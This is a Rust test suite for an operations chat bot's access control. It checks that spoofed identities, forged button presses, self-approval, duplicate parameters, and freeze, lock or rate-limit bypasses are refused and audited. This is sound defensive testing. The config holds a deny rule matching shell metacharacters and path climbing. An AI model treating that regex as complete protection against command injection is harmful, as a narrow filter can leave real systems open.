//! The hostile matrix for people, roles, approvals and policies.
//!
//! Every way of getting a run without the right to it must (1) be refused with a reason that
//! names what refused and what would pass, (2) leave an audit record of the refusal, and (3)
//! queue nothing: workers only run queued executions, so "no process started" means "no
//! execution row". Positive controls show the refusals are not vacuous.

use chrono::{Duration as ChronoDuration, SecondsFormat, Utc};
use opsbot_core::config::{Config, LoadOptions};
use opsbot_core::{Block, Envelope, ExecState, Execution, Place, UserId};
use opsbot_engine::{Awaiting, Engine, Outcome};
use opsbot_store::{ApprovalState, AuditRecord, ExecutionFilter, SqliteStore, Store};
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

/// Ana may deploy anywhere (prod needs two leads), Bo only to dev and staging; Lea and Lou are
/// leads (approve, view, cancel), Rex reviews deploys but is no lead, Vic only views, Ada is an
/// admin. There is no Eve: her account is nobody's.
const CONFIG: &str = r#"
[bot]
timezone = "UTC"

[access]
default_role = "guest"
self_link = true

[jobs.deploy]
runner = { type = "exec", argv = ["deploy", "{{ app }}", "{{ env }}"] }
[[jobs.deploy.params]]
name = "app"
type = "enum"
values = ["api", "web"]
default = "api"
[[jobs.deploy.params]]
name = "env"
type = "enum"
values = ["dev", "staging", "prod"]
synonyms = { prod = ["production"] }
required = true

[jobs.ping]
runner = { type = "exec", argv = ["true"] }

[jobs.report]
runner = { type = "exec", argv = ["true"] }

[jobs.migrate]
runner = { type = "exec", argv = ["true"] }

[jobs.scale]
runner = { type = "exec", argv = ["scale", "{{ replicas }}"] }
[[jobs.scale.params]]
name = "replicas"
type = "int"
min = 1
max = 20
required = true

[jobs.flag]
runner = { type = "exec", argv = ["flag", "{{ force }}"] }
[[jobs.flag.params]]
name = "force"
type = "bool"
required = true

[jobs.tag]
runner = { type = "exec", argv = ["tag", "{{ version }}"] }
[[jobs.tag.params]]
name = "version"
pattern = '[0-9]+\.[0-9]+\.[0-9]+'
required = true

[jobs.note]
runner = { type = "exec", argv = ["echo", "{{ text }}"] }
[[jobs.note.params]]
name = "text"
required = true

[people.ana]
name = "Ana"
accounts = ["chat:U-ANA", "web:ana"]
roles = ["deployer", "prod-deployer"]

[people.bo]
name = "Bo"
accounts = ["chat:U-BO"]
roles = ["deployer"]

[people.lea]
name = "Lea"
accounts = ["chat:U-LEA", "web:lea"]
roles = ["lead"]

[people.lou]
name = "Lou"
accounts = ["chat:U-LOU"]
roles = ["lead"]

[people.rex]
name = "Rex"
accounts = ["chat:U-REX"]
roles = ["reviewer"]

[people.vic]
name = "Vic"
accounts = ["chat:U-VIC"]
roles = ["viewer"]

[people.ada]
name = "Ada"
accounts = ["chat:U-ADA"]
roles = ["admin"]

[roles.deployer]
allow = [{ verbs = ["run", "view"], jobs = "*", params = { env = ["dev", "staging"] } }]

[roles.prod-deployer]
allow = [{ verbs = ["run"], jobs = "deploy" }]

[roles.lead]
allow = [{ verbs = ["approve", "view", "cancel"], jobs = "*" }]

[roles.reviewer]
allow = [{ verbs = ["approve", "view"], jobs = "deploy" }]

[roles.viewer]
allow = [{ verbs = "view", jobs = "*" }]

[[policy.approval]]
name = "prod-changes"
jobs = "deploy"
params = { env = "prod" }
approvers = ["lead"]
count = 2

[[policy.rate_limit]]
name = "ping-burst"
jobs = "ping"
per = "person"
max = 3
every = "1h"

[[policy.deny_argv]]
name = "shell-meta"
pattern = '[;|&$`<>]|\.\./'
reason = "no shell metacharacters or path climbing"
"#;

const ANA: &str = "U-ANA";
const BO: &str = "U-BO";
const LEA: &str = "U-LEA";
const LOU: &str = "U-LOU";
const REX: &str = "U-REX";
const VIC: &str = "U-VIC";
const ADA: &str = "U-ADA";
/// Nobody's account.
const EVE: &str = "U-EVE";

/// An engine on an in-memory store (also used by `review.rs`).
pub(crate) struct Bot {
    engine: Engine,
    store: Arc<dyn Store>,
}

impl Bot {
    async fn new() -> Bot {
        Bot::with("").await
    }

    /// The shared config plus `extra` (policies computed from the current time).
    async fn with(extra: &str) -> Bot {
        Bot::from_text(&format!("{CONFIG}\n{extra}")).await
    }

    /// An engine over this config text.
    pub(crate) async fn from_text(text: &str) -> Bot {
        let cfg = match Config::parse(text, Path::new("/tmp/opsbot-access.toml"), LoadOptions::default()) {
            Ok(c) => c,
            Err(e) => panic!("config: {e:?}"),
        };
        let store: Arc<dyn Store> = Arc::new(SqliteStore::memory().await.expect("store"));
        let engine = Engine::new(Arc::new(cfg.catalog), cfg.bot, store.clone()).with_access(cfg.access);
        Bot { engine, store }
    }

    pub(crate) async fn say(&self, env: Envelope) -> (Outcome, String) {
        let o = self.engine.handle(&env).await;
        let t = text_of(&o);
        (o, t)
    }

    pub(crate) async fn runs(&self) -> Vec<Execution> {
        self.store
            .executions(&ExecutionFilter {
                limit: 100,
                ..Default::default()
            })
            .await
            .unwrap()
    }

    async fn run(&self, id: i64) -> Execution {
        self.store.execution(id).await.unwrap().expect("execution")
    }

    /// Newest first.
    pub(crate) async fn audits(&self) -> Vec<AuditRecord> {
        self.store.audit_records(1000).await.unwrap()
    }

    async fn last_audit(&self) -> AuditRecord {
        self.audits().await.into_iter().next().expect("an audit record")
    }

    async fn refusals(&self) -> usize {
        self.audits().await.iter().filter(|r| r.decision == "refused").count()
    }

    /// The newest audit record is a refusal of `action` by `actor` whose reason has `words`.
    async fn assert_refusal_audited(&self, action: &str, actor: &UserId, words: &[&str]) -> AuditRecord {
        let r = self.last_audit().await;
        assert_eq!((r.action.as_str(), r.decision.as_str()), (action, "refused"), "{r:#?}");
        assert_eq!(&r.actor, actor, "{r:#?}");
        has_all(r.reason.as_deref().unwrap_or_default(), words);
        r
    }

    async fn assert_no_runs(&self) {
        let runs = self.runs().await;
        assert!(runs.is_empty(), "nothing may be queued: {runs:#?}");
    }

    async fn approval_state(&self, id: i64) -> ApprovalState {
        self.store.approval(id).await.unwrap().expect("approval request").state
    }

    /// Ana asks for a prod deploy: an approval request, not a run.
    async fn ana_asks_for_prod(&self) -> i64 {
        let (o, t) = self.say(dm(ANA, "run deploy env=prod")).await;
        assert!(o.queued.is_none(), "{t}");
        has_all(&t, &["approval request", "prod-changes", "2 approvals from `lead`"]);
        o.approval.unwrap_or_else(|| panic!("an approval request: {t}"))
    }
}

fn acct(id: &str) -> UserId {
    UserId::new("chat", id)
}

/// A direct message from a chat account.
pub(crate) fn dm(who: &str, text: &str) -> Envelope {
    Envelope::direct(acct(who), Place::new("chat", format!("D-{who}")), text)
}

/// A message in the shared channel (addressed with the `!` prefix by the caller).
fn in_channel(who: &str, text: &str) -> Envelope {
    let mut e = Envelope::direct(acct(who), Place::new("chat", "ops"), text);
    e.direct = false;
    e
}

/// A direct message from Ana's web account.
fn ana_on_web(text: &str) -> Envelope {
    Envelope::direct(UserId::new("web", "ana"), Place::new("web", "dm:ana"), text)
}

/// A button press in the shared channel: the text is the command the button carries, and
/// nothing stops a client from sending any command with any button id.
fn pressed(who: &str, command: &str) -> Envelope {
    let mut e = in_channel(who, command);
    e.mentioned = true;
    e.button = Some("forged".into());
    e
}

fn text_of(o: &Outcome) -> String {
    o.replies.iter().map(|r| r.plain_text()).collect::<Vec<_>>().join("\n")
}

fn has_all(text: &str, words: &[&str]) {
    for w in words {
        assert!(text.contains(w), "expected {w:?} in:\n{text}");
    }
}

fn button_commands(o: &Outcome) -> Vec<String> {
    o.replies
        .iter()
        .flat_map(|r| r.blocks.iter())
        .filter_map(|b| match b {
            Block::Buttons { buttons } => Some(buttons.iter().map(|b| b.command.clone()).collect::<Vec<_>>()),
            _ => None,
        })
        .flatten()
        .collect()
}

fn rfc3339(t: chrono::DateTime<Utc>) -> String {
    t.to_rfc3339_opts(SecondsFormat::Millis, true)
}

// ---- positive control -----------------------------------------------------------------------

#[tokio::test]
async fn a_properly_roled_person_can_run() {
    let bot = Bot::new().await;
    let (o, t) = bot.say(dm(ANA, "run deploy env=staging")).await;
    let id = o.queued.unwrap_or_else(|| panic!("Ana may deploy to staging: {t}"));
    let e = bot.run(id).await;
    assert_eq!(
        (e.state, e.requested_by.clone(), e.requester_name.as_str()),
        (ExecState::Queued, acct(ANA), "Ana")
    );
    let r = bot.last_audit().await;
    assert_eq!(
        (r.action.as_str(), r.decision.as_str(), r.execution_id),
        ("run", "accepted", Some(id))
    );
    assert_eq!(r.actor_name, "Ana");
    // Each parameter type with a harmless value goes through, for the people allowed.
    for (who, text) in [
        (BO, "run deploy env=dev"),
        (ANA, "run scale replicas=3"),
        (ANA, "run flag force=yes"),
        (ANA, "run tag version=1.2.3"),
        (ANA, "run note text=\"hello world\""),
        (ADA, "run migrate"),
    ] {
        let (o, t) = bot.say(dm(who, text)).await;
        assert!(o.queued.is_some(), "{who}: {text}: {t}");
    }
    assert_eq!(bot.runs().await.len(), 7);
    assert_eq!(bot.refusals().await, 0);
}

// ---- 1, 2: who is asking --------------------------------------------------------------------

#[tokio::test]
async fn an_unknown_account_is_refused_and_told_to_link() {
    let bot = Bot::new().await;
    let (o, t) = bot.say(dm(EVE, "run ping")).await;
    assert!(o.queued.is_none() && o.approval.is_none(), "{t}");
    has_all(&t, &["Not allowed", "`guest`", "I don't know your account `chat:U-EVE`", "`link`"]);
    let r = bot
        .assert_refusal_audited("run", &acct(EVE), &["`guest`", "I don't know your account `chat:U-EVE`", "`link`"])
        .await;
    assert_eq!(r.actor_name, "U-EVE (unknown account)");
    assert_eq!(r.job.as_deref(), Some("ping"));
    // The same in a channel, by job name.
    let (o, t) = bot.say(in_channel(EVE, "!ping")).await;
    assert!(o.queued.is_none(), "{t}");
    has_all(&t, &["I don't know your account `chat:U-EVE`", "`link`"]);
    bot.assert_refusal_audited("run", &acct(EVE), &["I don't know your account"]).await;
    assert_eq!(bot.refusals().await, 2);
    bot.assert_no_runs().await;
}

#[tokio::test]
async fn a_display_name_spoofing_a_person_is_still_an_unknown_account() {
    let bot = Bot::new().await;
    for (display, text) in [("Ana", "run deploy env=dev"), ("Ada", "run migrate"), ("ana", "run ping")] {
        let mut e = dm(EVE, text);
        e.display_name = Some(display.into());
        let (o, t) = bot.say(e).await;
        assert!(o.queued.is_none() && o.approval.is_none(), "{display}: {t}");
        has_all(&t, &["Not allowed", "I don't know your account `chat:U-EVE`", "`link`"]);
        let r = bot.assert_refusal_audited("run", &acct(EVE), &["`guest`"]).await;
        assert_eq!(r.actor_name, format!("{display} (unknown account)"), "{r:#?}");
    }
    // `whoami` does not take the name for an identity either.
    let mut e = dm(EVE, "whoami");
    e.display_name = Some("Ana".into());
    let (_, t) = bot.say(e).await;
    has_all(&t, &["an account I don't know", "guest"]);
    assert!(!t.contains("person `ana`"), "{t}");
    bot.assert_no_runs().await;
}

// ---- 3, 4: roles ----------------------------------------------------------------------------

#[tokio::test]
async fn a_role_without_the_verb_may_not_run() {
    let bot = Bot::new().await;
    let (o, t) = bot.say(dm(VIC, "run report")).await;
    assert!(o.queued.is_none(), "{t}");
    has_all(
        &t,
        &["Not allowed", "None of your roles (`viewer`) allows run on `report`", "`whoami`"],
    );
    let r = bot
        .assert_refusal_audited("run", &acct(VIC), &["None of your roles (`viewer`) allows run on `report`"])
        .await;
    assert_eq!(r.actor_name, "Vic");
    // A reviewer may approve deploys but not start them.
    let (o, t) = bot.say(dm(REX, "run deploy env=dev")).await;
    assert!(o.queued.is_none(), "{t}");
    has_all(&t, &["None of your roles (`reviewer`) allows run on `deploy`"]);
    bot.assert_refusal_audited("run", &acct(REX), &["`reviewer`"]).await;
    bot.assert_no_runs().await;
}

#[tokio::test]
async fn a_value_outside_the_roles_constraint_is_refused_naming_the_constraint() {
    let bot = Bot::new().await;
    let refused_before = bot.refusals().await;
    // Named, through a synonym and in capitals, positional: all are env=prod.
    for text in [
        "run deploy env=prod",
        "run deploy env=PRODUCTION",
        "run deploy web prod",
        "deploy --env production",
    ] {
        let (o, t) = bot.say(dm(BO, text)).await;
        assert!(o.queued.is_none() && o.approval.is_none(), "{text}: {t}");
        has_all(
            &t,
            &[
                "Not allowed",
                "env=prod",
                "Role `deployer` allows run only on every job with env in [dev, staging]",
            ],
        );
        let r = bot
            .assert_refusal_audited("run", &acct(BO), &["env=prod", "env in [dev, staging]", "opsbot-access.toml:"])
            .await;
        assert_eq!(
            r.params.as_ref().and_then(|p| p.get("env")).map(String::as_str),
            Some("prod"),
            "{r:#?}"
        );
    }
    // Answering the question for a missing value is checked the same way.
    let (o, t) = bot.say(dm(BO, "run deploy")).await;
    assert_eq!(o.awaiting, Some(Awaiting::Param("env".into())), "{t}");
    let (o, t) = bot.say(dm(BO, "prod")).await;
    assert!(o.queued.is_none() && o.approval.is_none(), "{t}");
    has_all(&t, &["env in [dev, staging]"]);
    bot.assert_refusal_audited("run", &acct(BO), &["env=prod", "env in [dev, staging]"])
        .await;
    // Giving the value twice does not smuggle the second one past the check.
    let (o, t) = bot.say(dm(BO, "run deploy env=dev env=prod")).await;
    assert!(o.queued.is_none(), "{t}");
    has_all(&t, &["`env` is given twice"]);
    bot.assert_refusal_audited("run", &acct(BO), &["given twice"]).await;
    assert_eq!(bot.refusals().await, refused_before + 6);
    bot.assert_no_runs().await;
}

// ---- 5-8: approvals -------------------------------------------------------------------------

#[tokio::test]
async fn the_requester_may_not_approve_their_own_request() {
    let bot = Bot::new().await;
    let id = bot.ana_asks_for_prod().await;
    let (o, t) = bot.say(dm(ANA, &format!("approve {id}"))).await;
    assert!(o.queued.is_none(), "{t}");
    has_all(
        &t,
        &[&format!("You asked for request {id}"), "someone else must approve it (four eyes)"],
    );
    bot.assert_refusal_audited("approve", &acct(ANA), &[&format!("request {id}"), "four eyes"])
        .await;
    // Nor from another of her accounts.
    let (o, t) = bot.say(ana_on_web(&format!("approve {id}"))).await;
    assert!(o.queued.is_none(), "{t}");
    has_all(&t, &["four eyes"]);
    bot.assert_refusal_audited("approve", &UserId::new("web", "ana"), &["four eyes"])
        .await;
    assert!(bot.store.votes(id).await.unwrap().is_empty());
    assert_eq!(bot.approval_state(id).await, ApprovalState::Pending);
    bot.assert_no_runs().await;
}

#[tokio::test]
async fn a_second_vote_by_the_same_approver_does_not_count() {
    let bot = Bot::new().await;
    let id = bot.ana_asks_for_prod().await;
    let (o, t) = bot.say(dm(LEA, &format!("approve {id}"))).await;
    assert!(o.queued.is_none(), "{t}");
    has_all(&t, &["recorded", "still needs 1 more"]);
    bot.assert_no_runs().await;
    // Again, and from her other account: refused, still one vote, still no run.
    let (o, t) = bot.say(dm(LEA, &format!("approve {id}"))).await;
    assert!(o.queued.is_none(), "{t}");
    has_all(&t, &[&format!("You already voted on request {id}")]);
    bot.assert_refusal_audited("approve", &acct(LEA), &["already voted"]).await;
    let lea_web = Envelope::direct(UserId::new("web", "lea"), Place::new("web", "dm:lea"), format!("approve {id}"));
    let (o, t) = bot.say(lea_web).await;
    assert!(o.queued.is_none(), "{t}");
    has_all(&t, &["already voted"]);
    bot.assert_refusal_audited("approve", &UserId::new("web", "lea"), &["already voted"])
        .await;
    assert_eq!(bot.store.votes(id).await.unwrap().len(), 1);
    assert_eq!(bot.approval_state(id).await, ApprovalState::Pending);
    bot.assert_no_runs().await;
    // Positive control: a second lead completes it, and the run is Ana's.
    let (_, t) = bot.say(dm(LOU, &format!("approve {id}"))).await;
    has_all(&t, &[&format!("Request {id} approved by Lea, Lou"), "started for Ana"]);
    let runs = bot.runs().await;
    assert_eq!(runs.len(), 1, "{t}");
    let exec = runs[0].id;
    assert_eq!(runs[0].requested_by, acct(ANA));
    assert_eq!(runs[0].params.get("env").map(String::as_str), Some("prod"));
    let a = bot.store.approval(id).await.unwrap().unwrap();
    assert_eq!((a.state, a.execution_id), (ApprovalState::Approved, Some(exec)));
}

#[tokio::test]
async fn an_expired_request_cannot_be_approved() {
    let bot = Bot::with(
        r#"
[[policy.approval]]
name = "quick-window"
jobs = "migrate"
approvers = ["lead"]
expires = "1s"
"#,
    )
    .await;
    let (o, t) = bot.say(dm(ANA, "run migrate")).await;
    assert!(o.queued.is_none(), "{t}");
    let id = o.approval.unwrap_or_else(|| panic!("an approval request: {t}"));
    tokio::time::sleep(Duration::from_millis(1200)).await;
    let (o, t) = bot.say(dm(LEA, &format!("approve {id}"))).await;
    assert!(o.queued.is_none(), "{t}");
    has_all(&t, &[&format!("Request {id} expired"), "nothing was run"]);
    bot.assert_refusal_audited("approve", &acct(LEA), &["expired"]).await;
    assert!(
        bot.audits().await.iter().any(|r| r.action == "approval" && r.decision == "expired"),
        "the expiry itself is audited"
    );
    assert_eq!(bot.approval_state(id).await, ApprovalState::Expired);
    assert!(bot.store.votes(id).await.unwrap().is_empty());
    // Later votes find it closed.
    let (o, t) = bot.say(dm(LOU, &format!("approve {id}"))).await;
    assert!(o.queued.is_none(), "{t}");
    has_all(&t, &["already expired"]);
    bot.assert_refusal_audited("approve", &acct(LOU), &["expired"]).await;
    bot.assert_no_runs().await;
}

#[tokio::test]
async fn only_the_approver_role_may_approve() {
    let bot = Bot::new().await;
    let id = bot.ana_asks_for_prod().await;
    // Rex has the `approve` verb on deploy, but the rule wants a `lead`.
    let (o, t) = bot.say(dm(REX, &format!("approve {id}"))).await;
    assert!(o.queued.is_none(), "{t}");
    has_all(
        &t,
        &[&format!("Request {id} needs approval from `lead`"), "your roles are reviewer"],
    );
    bot.assert_refusal_audited("approve", &acct(REX), &["needs approval from `lead`"])
        .await;
    // Nor may he kill it with a deny.
    let (_, t) = bot.say(dm(REX, &format!("deny {id} not on my watch"))).await;
    has_all(&t, &["needs approval from `lead`"]);
    bot.assert_refusal_audited("deny", &acct(REX), &["needs approval from `lead`"])
        .await;
    // Bo and Vic have no `approve` verb at all; Eve is nobody.
    for (who, role) in [(BO, "`deployer`"), (VIC, "`viewer`"), (EVE, "`guest`")] {
        let (o, t) = bot.say(dm(who, &format!("approve {id}"))).await;
        assert!(o.queued.is_none(), "{who}: {t}");
        has_all(
            &t,
            &[&format!("You may not vote on request {id}"), role, "allows approve on `deploy`"],
        );
        bot.assert_refusal_audited("approve", &acct(who), &["You may not vote", role]).await;
    }
    assert!(bot.store.votes(id).await.unwrap().is_empty());
    assert_eq!(bot.approval_state(id).await, ApprovalState::Pending);
    bot.assert_no_runs().await;
}

// ---- 9, 10: other people's runs and requests ------------------------------------------------

#[tokio::test]
async fn a_forged_button_naming_someone_elses_run_or_request_is_refused() {
    let bot = Bot::new().await;
    let (o, t) = bot.say(dm(ANA, "run report")).await;
    let run = o.queued.unwrap_or_else(|| panic!("{t}"));
    let cancel = button_commands(&o)
        .into_iter()
        .find(|c| c.starts_with("cancel"))
        .expect("the job card has a Cancel button");
    assert_eq!(cancel, format!("cancel {run}"));
    for (who, role) in [(BO, "`deployer`"), (VIC, "`viewer`"), (EVE, "`guest`")] {
        let (o, t) = bot.say(pressed(who, &cancel)).await;
        assert!(o.queued.is_none(), "{t}");
        has_all(
            &t,
            &[
                &format!("You may not cancel #{run}"),
                &format!("#{run} is Ana's run of `report`"),
                role,
            ],
        );
        let r = bot.assert_refusal_audited("cancel", &acct(who), &["Ana's run", role]).await;
        assert_eq!(r.execution_id, Some(run));
    }
    let e = bot.run(run).await;
    assert_eq!((e.state, e.cancel_requested), (ExecState::Queued, false), "not cancelled");

    // The approval card's buttons, pressed by people who may not vote.
    let (o, t) = bot.say(dm(ANA, "run deploy env=prod")).await;
    let id = o.approval.unwrap_or_else(|| panic!("{t}"));
    let buttons = button_commands(&o);
    assert_eq!(buttons, vec![format!("approve {id}"), format!("deny {id}")]);
    for who in [BO, VIC, EVE] {
        for cmd in &buttons {
            let (o, t) = bot.say(pressed(who, cmd)).await;
            assert!(o.queued.is_none(), "{t}");
            has_all(&t, &[&format!("You may not vote on request {id}")]);
            bot.assert_refusal_audited(cmd.split(' ').next().unwrap(), &acct(who), &["You may not vote"])
                .await;
        }
    }
    assert_eq!(
        bot.approval_state(id).await,
        ApprovalState::Pending,
        "a forged deny does not close it"
    );
    assert!(bot.store.votes(id).await.unwrap().is_empty());
    assert_eq!(bot.runs().await.len(), 1, "only Ana's report");
}

#[tokio::test]
async fn only_the_owner_or_the_cancel_verb_may_cancel_a_run() {
    let bot = Bot::new().await;
    let first = bot.say(dm(ANA, "run report")).await.0.queued.expect("queued");
    for (who, role) in [(BO, "`deployer`"), (VIC, "`viewer`"), (REX, "`reviewer`")] {
        let (o, t) = bot.say(dm(who, &format!("cancel {first}"))).await;
        assert!(o.queued.is_none(), "{t}");
        has_all(
            &t,
            &[
                &format!("You may not cancel #{first}"),
                "Ana's run of `report`",
                role,
                "allows cancel",
            ],
        );
        bot.assert_refusal_audited("cancel", &acct(who), &["Ana's run of `report`"]).await;
        assert_eq!(bot.run(first).await.state, ExecState::Queued);
    }
    // The owner may.
    let (_, t) = bot.say(dm(ANA, &format!("cancel {first}"))).await;
    has_all(&t, &["cancelled and will not run"]);
    assert_eq!(bot.run(first).await.state, ExecState::Cancelled);
    // From another of her accounts too.
    let second = bot.say(dm(ANA, "run report")).await.0.queued.expect("queued");
    let (_, t) = bot.say(ana_on_web(&format!("cancel {second}"))).await;
    has_all(&t, &["cancelled and will not run"]);
    assert_eq!(bot.run(second).await.state, ExecState::Cancelled);
    // A lead (the `cancel` verb) may cancel others' runs.
    let third = bot.say(dm(ANA, "run report")).await.0.queued.expect("queued");
    let (_, t) = bot.say(dm(LEA, &format!("cancel {third}"))).await;
    has_all(&t, &["cancelled and will not run"]);
    let r = bot.last_audit().await;
    assert_eq!(
        (r.action.as_str(), r.decision.as_str(), r.actor.clone()),
        ("cancel", "cancelled", acct(LEA))
    );
    assert_eq!(bot.run(third).await.state, ExecState::Cancelled);
    assert_eq!(bot.runs().await.len(), 3, "cancelling starts nothing");
}

// ---- 11-14: policies ------------------------------------------------------------------------

fn freeze_around_now() -> String {
    let now = Utc::now();
    format!(
        r#"
[[policy.freeze]]
name = "release-freeze"
jobs = "migrate"
from = "{}"
until = "{}"
reason = "release 7 rollout"
override = {{ approvers = ["lead"], count = 1 }}
"#,
        rfc3339(now - ChronoDuration::hours(1)),
        rfc3339(now + ChronoDuration::hours(1))
    )
}

#[tokio::test]
async fn a_freeze_refuses_and_an_override_only_asks_for_approval() {
    let bot = Bot::with(&freeze_around_now()).await;
    let (o, t) = bot.say(dm(ANA, "run migrate")).await;
    assert!(o.queued.is_none() && o.approval.is_none(), "{t}");
    has_all(
        &t,
        &[
            "Refused by freeze `release-freeze`",
            "frozen until",
            "release 7 rollout",
            "--override \"why\"",
            "1 approval from `lead`",
        ],
    );
    bot.assert_refusal_audited("run", &acct(ANA), &["freeze `release-freeze`", "--override"])
        .await;
    // An override without a reason is no override.
    let (o, t) = bot.say(dm(ANA, "run migrate --override")).await;
    assert!(o.queued.is_none() && o.approval.is_none(), "{t}");
    has_all(&t, &["`--override` needs a reason"]);
    bot.assert_no_runs().await;
    // With a reason it becomes an approval request, never a run by itself.
    let (o, t) = bot.say(dm(ANA, "run migrate --override \"hotfix INC-7\"")).await;
    assert!(o.queued.is_none(), "{t}");
    let id = o.approval.unwrap_or_else(|| panic!("an approval request: {t}"));
    has_all(&t, &["freeze `release-freeze` override", "1 approval from `lead`"]);
    let r = bot.last_audit().await;
    assert_eq!((r.action.as_str(), r.decision.as_str()), ("approval", "asked"), "{r:#?}");
    has_all(
        r.reason.as_deref().unwrap_or_default(),
        &["freeze `release-freeze` override", "hotfix INC-7"],
    );
    bot.assert_no_runs().await;
    // Positive control: a lead approves, then it runs.
    let (_, t) = bot.say(dm(LEA, &format!("approve {id}"))).await;
    has_all(&t, &[&format!("Request {id} approved by Lea")]);
    assert_eq!(bot.runs().await.len(), 1, "{t}");
}

#[tokio::test]
async fn out_of_hours_is_refused_naming_the_hours_policy() {
    let now = Utc::now();
    let hm = |t: chrono::DateTime<Utc>| t.format("%H:%M").to_string();
    let (from, until) = (hm(now + ChronoDuration::hours(2)), hm(now + ChronoDuration::hours(3)));
    let bot = Bot::with(&format!(
        r#"
[[policy.hours]]
name = "office"
jobs = "report"
between = "{from}-{until}"
"#
    ))
    .await;
    let (o, t) = bot.say(dm(ANA, "run report")).await;
    assert!(o.queued.is_none() && o.approval.is_none(), "{t}");
    has_all(
        &t,
        &[
            "Refused by hours `office`",
            &format!("report may run only every day {from}-{until} (UTC)"),
            "Ask again within those hours",
        ],
    );
    bot.assert_refusal_audited("run", &acct(ANA), &["hours `office`", &format!("{from}-{until}")])
        .await;
    bot.assert_no_runs().await;
    // Jobs the rule does not name are not limited.
    assert!(bot.say(dm(ANA, "run ping")).await.0.queued.is_some());
}

#[tokio::test]
async fn a_burst_beyond_the_rate_limit_is_refused() {
    let bot = Bot::new().await;
    let mut queued = 0;
    for i in 1..=5 {
        let (o, t) = bot.say(dm(ANA, "run ping")).await;
        if i <= 3 {
            assert!(o.queued.is_some(), "run {i}: {t}");
            queued += 1;
        } else {
            assert!(o.queued.is_none(), "run {i}: {t}");
            has_all(
                &t,
                &[
                    "Refused by rate_limit `ping-burst`",
                    "at most 3 runs of ping per person every 1h",
                    "Try again in",
                ],
            );
            bot.assert_refusal_audited("run", &acct(ANA), &["rate_limit `ping-burst`", "Try again in"])
                .await;
        }
        assert_eq!(bot.runs().await.len(), queued);
    }
    // The limit is per person, not per account.
    let (o, t) = bot.say(ana_on_web("run ping")).await;
    assert!(o.queued.is_none(), "{t}");
    has_all(&t, &["rate_limit `ping-burst`"]);
    assert_eq!(bot.refusals().await, 3);
    assert_eq!(bot.runs().await.len(), 3);
    // Someone else still may.
    assert!(bot.say(dm(BO, "run ping")).await.0.queued.is_some());
}

#[tokio::test]
async fn a_held_lock_refuses_runs_until_unlocked() {
    let bot = Bot::new().await;
    let (_, t) = bot.say(dm(ADA, "lock env=prod --reason \"incident 42\"")).await;
    has_all(&t, &["Locked `* env=prod`"]);
    // Locking is for admins.
    let (_, t) = bot.say(dm(BO, "lock env=staging --reason \"mine now\"")).await;
    has_all(&t, &["Not allowed", "admin"]);
    bot.assert_refusal_audited("lock", &acct(BO), &["admin"]).await;
    assert_eq!(bot.store.locks().await.unwrap().len(), 1);
    for text in ["run deploy env=prod", "run deploy app=web env=production"] {
        let (o, t) = bot.say(dm(ANA, text)).await;
        assert!(o.queued.is_none() && o.approval.is_none(), "{text}: {t}");
        has_all(
            &t,
            &[
                "Refused by lock `* env=prod`",
                "Ada locked it",
                "\"incident 42\"",
                "`unlock env=prod`",
            ],
        );
        bot.assert_refusal_audited("run", &acct(ANA), &["lock `* env=prod`", "Ada", "incident 42"])
            .await;
    }
    assert!(bot.store.approvals(false, 100).await.unwrap().is_empty(), "no request while locked");
    bot.assert_no_runs().await;
    // Only its holder or an admin may lift it.
    let (_, t) = bot.say(dm(BO, "unlock env=prod")).await;
    has_all(&t, &["Not allowed", "admin"]);
    bot.assert_refusal_audited("unlock", &acct(BO), &["admin"]).await;
    assert_eq!(bot.store.locks().await.unwrap().len(), 1);
    // Other values are not locked.
    assert!(bot.say(dm(ANA, "run deploy env=staging")).await.0.queued.is_some());
    // Positive control: unlocked, the prod deploy goes on (to its approvers, then runs).
    let (_, t) = bot.say(dm(ADA, "unlock env=prod")).await;
    has_all(&t, &["Unlocked `* env=prod`"]);
    let id = bot.ana_asks_for_prod().await;
    bot.say(dm(LEA, &format!("approve {id}"))).await;
    let (_, t) = bot.say(dm(LOU, &format!("approve {id}"))).await;
    has_all(&t, &[&format!("Request {id} approved by Lea, Lou")]);
    assert_eq!(bot.runs().await.len(), 2, "{t}");
}

#[tokio::test]
async fn a_lock_taken_while_a_request_waits_refuses_the_approved_run() {
    let bot = Bot::new().await;
    let id = bot.ana_asks_for_prod().await;
    bot.say(dm(ADA, "lock env=prod --reason \"incident 43\"")).await;
    bot.say(dm(LEA, &format!("approve {id}"))).await;
    let (o, t) = bot.say(dm(LOU, &format!("approve {id}"))).await;
    assert!(o.queued.is_none(), "{t}");
    has_all(
        &t,
        &["approved, but Refused by lock `* env=prod`", "incident 43", "Nothing was run"],
    );
    let r = bot.last_audit().await;
    assert_eq!(
        (r.action.as_str(), r.decision.as_str(), r.actor.clone()),
        ("run", "refused", acct(ANA))
    );
    assert_eq!(bot.approval_state(id).await, ApprovalState::Denied);
    bot.assert_no_runs().await;
}

/// A freeze on prod deploys (override: one admin) that begins `in_` from now.
fn freeze_from(in_: ChronoDuration) -> String {
    let now = Utc::now();
    format!(
        r#"
[[policy.freeze]]
name = "late-freeze"
jobs = "deploy"
params = {{ env = "prod" }}
from = "{}"
until = "{}"
override = {{ approvers = ["admin"], count = 1 }}
"#,
        rfc3339(now + in_),
        rfc3339(now + ChronoDuration::hours(1))
    )
}

/// Sleeps until the freeze built by [`freeze_from`] at `built` has begun.
async fn until_frozen(built: std::time::Instant, in_: ChronoDuration) {
    let wait = (in_ + ChronoDuration::milliseconds(100)).to_std().unwrap();
    if let Some(left) = wait.checked_sub(built.elapsed()) {
        tokio::time::sleep(left).await;
    }
}

#[tokio::test]
async fn a_freeze_begun_while_a_request_waits_refuses_the_approved_run() {
    let in_ = ChronoDuration::milliseconds(1000);
    let built = std::time::Instant::now();
    let bot = Bot::with(&freeze_from(in_)).await;
    let id = bot.ana_asks_for_prod().await;
    until_frozen(built, in_).await;
    bot.say(dm(LEA, &format!("approve {id}"))).await;
    let (o, t) = bot.say(dm(LOU, &format!("approve {id}"))).await;
    assert!(o.queued.is_none(), "{t}");
    has_all(&t, &["approved, but Refused by freeze `late-freeze`"]);
    assert_eq!(bot.approval_state(id).await, ApprovalState::Denied);
    bot.assert_no_runs().await;
}

/// Asking with `--override` before any freeze is in force must not pre-approve a freeze that
/// begins while the request waits: that freeze's override needs an `admin`, whom nobody asked.
#[tokio::test]
async fn an_override_asked_before_a_freeze_does_not_bypass_it() {
    let in_ = ChronoDuration::milliseconds(1000);
    let built = std::time::Instant::now();
    let bot = Bot::with(&freeze_from(in_)).await;
